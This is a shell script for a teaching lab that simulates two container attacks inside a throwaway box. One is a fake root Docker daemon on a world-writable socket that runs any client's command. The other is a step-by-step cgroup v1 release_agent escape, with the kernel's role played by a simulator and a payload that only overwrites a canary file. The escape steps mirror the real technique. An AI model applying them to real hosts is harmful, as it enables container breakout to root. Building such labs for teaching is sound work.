#!/bin/sh
# nslab-lab18: the two attacks of lab 18, played inside a throwaway box.
# Installed in the busybox rootfs as /bin/nslab-lab18. Everything here
# happens in the box that runs it: its "host" is that box's root, never the
# real machine.
#
#   nslab-lab18 sockd            start a fake Docker daemon: root, listening on
#                                /var/run/docker.sock (a FIFO, mode 666, the
#                                way the docker group may write the real socket)
#   nslab-lab18 docker CMD...    a client: ask the daemon to run CMD; prints
#                                its answer (the daemon runs it as root)
#   nslab-lab18 escape-setup     make the throwaway "host": /canary and a
#                                container root /jail with its own busybox
#   nslab-lab18 escape           the cgroup v1 release_agent escape, from the
#                                container's side, step by step; the kernel's
#                                part (run the agent as host root when a
#                                cgroup empties) is played by a simulator, in
#                                this box
set -u
sock=/var/run/docker.sock

# In the foreground, so that the socket and the secret exist before the
# next command runs.
sockd_prepare() {
	[ "$(id -u)" = 0 ] || { echo "sockd: the daemon runs as root" >&2; exit 1; }
	mkdir -p /var/run
	# The file only root may read (nslab-suid --setup writes it).
	[ -e /etc/nslab-secret ] || nslab-suid --setup > /dev/null
	rm -f "$sock"
	mkfifo -m 666 "$sock"
}

sockd() {
	while :; do
		# One request per line: REPLY-FIFO COMMAND...
		if read -r reply cmd < "$sock" && [ -p "$reply" ]; then
			{
				echo "daemon (uid $(id -u)): running: $cmd"
				sh -c "$cmd" 2>&1
			} > "$reply"
		fi
	done
}

client() {
	[ -p "$sock" ] || { echo "docker: no daemon at $sock (nslab-lab18 sockd)" >&2; exit 1; }
	reply=$(mktemp -u /tmp/reply.XXXXXX)
	mkfifo -m 622 "$reply"
	echo "client (uid $(id -u)): sending to $sock: $*"
	echo "$reply $*" > "$sock"
	cat "$reply"
	rm -f "$reply"
}

escape_setup() {
	echo "the throwaway host is untouched" > /canary
	mkdir -p /jail/bin /jail/tmp /jail/sys/fs/cgroup/nslab18
	cp /bin/busybox /jail/bin/busybox
	chroot /jail /bin/busybox --install -s /bin
	echo "host (this box): /canary says: $(cat /canary)"
	echo "container root: /jail (the container sees it as /)"
}

# The kernel's part, simulated: when a cgroup with notify_on_release=1 loses
# its last process, run release_agent as root, in the host's namespaces.
kernel_sim() {
	cg=/jail/sys/fs/cgroup/nslab18 i=0
	while [ $i -lt 50 ]; do
		for d in "$cg"/*/; do
			[ -s "$d/cgroup.procs" ] || continue
			[ "$(cat "$d/notify_on_release" 2>/dev/null)" = 1 ] || continue
			alive=
			for p in $(cat "$d/cgroup.procs"); do [ -d "/proc/$p" ] && alive=1; done
			[ -n "$alive" ] && continue
			: > "$d/cgroup.procs"
			agent=$(cat "$cg/release_agent")
			echo "kernel (simulated): cgroup ${d#$cg} is empty; running release_agent $agent as host root"
			[ -n "$agent" ] && sh "$agent" "${d#$cg}"
			return 0
		done
		sleep 0.1
		i=$((i + 1))
	done
	echo "kernel (simulated): no cgroup emptied; nothing ran"
}

escape() {
	[ -d /jail/bin ] || { echo "escape: run nslab-lab18 escape-setup first" >&2; exit 1; }
	: > /jail/sys/fs/cgroup/nslab18/release_agent
	kernel_sim &
	chroot /jail /bin/sh -c '
		cg=/sys/fs/cgroup/nslab18
		echo "container: 1. make a child cgroup that notifies on release"
		mkdir -p $cg/x && echo 1 > $cg/x/notify_on_release
		echo "container: 2. write the payload: /cmd in here is /jail/cmd on the host"
		printf "#!/bin/sh\necho ESCAPED: the release agent wrote this as host root > /canary\n" > /cmd
		chmod +x /cmd
		echo "container: 3. point release_agent at the host path of the payload"
		echo /jail/cmd > $cg/release_agent
		echo "container: 4. put a short-lived process in the cgroup; when it exits, the cgroup is empty"
		sh -c "echo \$\$ > $cg/x/cgroup.procs"
	'
	wait
	echo "host (this box): /canary now says: $(cat /canary)"
}

case "${1:-}" in
sockd) sockd_prepare; (exec > /dev/null 2>&1 < /dev/null; sockd) & echo "daemon started as root, listening on $sock" ;;
docker) shift; client "$@" ;;
escape-setup) escape_setup ;;
escape) escape ;;
*) sed -n '2,20p' "$0"; exit 2 ;;
esac
